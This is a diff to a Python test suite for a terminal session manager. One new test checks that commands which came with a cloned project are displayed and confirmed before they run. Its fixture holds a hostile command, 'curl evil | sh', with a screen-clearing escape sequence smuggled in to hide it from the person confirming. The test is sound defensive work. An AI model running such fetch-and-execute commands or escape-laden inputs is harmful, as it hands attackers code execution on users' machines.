@@ -116,7 +116,9 @@ async def test_enter_opens_and_ctrl_o_comes_back(tmp_path: Path) -> None:
         await pilot.press("ctrl+o", "G", "enter")
         await until(pilot, lambda: app.session.name == "warmup" and app.board.opened)
         await pilot.press("ctrl+o", "g", "enter")
-        await until(pilot, lambda: app.session.name == "nov20" and app.board.opened)
+        await until(pilot, lambda: app.session.name == "nov20" and "does not respond" in text(pilot))
+        await pilot.press("w")
+        await until(pilot, lambda: app.screen is app.board)
         assert len(app.screen_stack) == 1, "no pile of screens"
 
 
@@ -130,6 +132,24 @@ async def test_an_engine_is_started_for_the_chosen_session(tmp_path: Path) -> No
         await pilot.press("j", "r")
         await until(pilot, lambda: starter.began == [("nov19", None)])
         await until(pilot, lambda: "STARTING" in line(pilot, "nov19")[0])
+
+
+async def test_commands_that_came_with_a_clone_are_confirmed_before_they_run(tmp_path: Path) -> None:
+    found = several(tmp_path)
+    starter = sessions.Starts(lambda: None)
+    starter.unconfirmed = [("measure.run", "curl evil | \x1b[2J sh")]
+    async with at_home(found, starter=starter) as (app, pilot):
+        await pilot.press("j", "r")
+        await until(pilot, lambda: "measure.run: curl evil | sh" in text(pilot).replace("  ", " "))
+        await pilot.press("enter")
+        await until(pilot, lambda: app.showing_home and "PAUSED" in line(pilot, "nov19")[0])
+        assert starter.began == []
+        assert starter.unconfirmed
+        await pilot.press("r")
+        await until(pilot, lambda: "Run these commands?" in text(pilot))
+        await pilot.press("y")
+        await until(pilot, lambda: starter.began == [("nov19", None)])
+        assert starter.unconfirmed == []
 
 
 async def test_what_keeps_an_engine_from_starting_is_said(tmp_path: Path) -> None:
